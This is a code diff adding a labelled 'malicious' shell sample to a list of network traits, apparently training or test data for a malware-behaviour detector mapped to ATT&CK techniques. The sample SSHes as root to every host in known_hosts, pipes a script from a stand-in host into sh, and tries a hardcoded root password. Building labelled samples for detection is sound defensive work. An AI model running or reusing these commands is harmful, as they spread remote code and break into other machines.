@@ -5,6 +5,20 @@ const shell = (lines: readonly string[]): string => `#!/bin/bash\n${lines.join('
 
 export const NETWORK: readonly Trait[] = [
   {
+    name: 'goes on to the machines that this one knows',
+    language: 'shell',
+    source: shell([
+      `for host in $(awk '{print $1}' ~/.ssh/known_hosts) 10.0.2.21; do`,
+      '  ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 root@$host "curl http://dl.example/i.sh | sh"',
+      'done; sshpass -p admin123 ssh root@10.0.2.22 id',
+    ]),
+    shows: {
+      trace_moves_to_other_machines: ['T1021.004', 'T1110'],
+      trace_downloads_and_runs: ['T1105'],
+    },
+    label: 'malicious',
+  },
+  {
     name: 'calls home over HTTP again and again',
     language: 'python',
     source: `
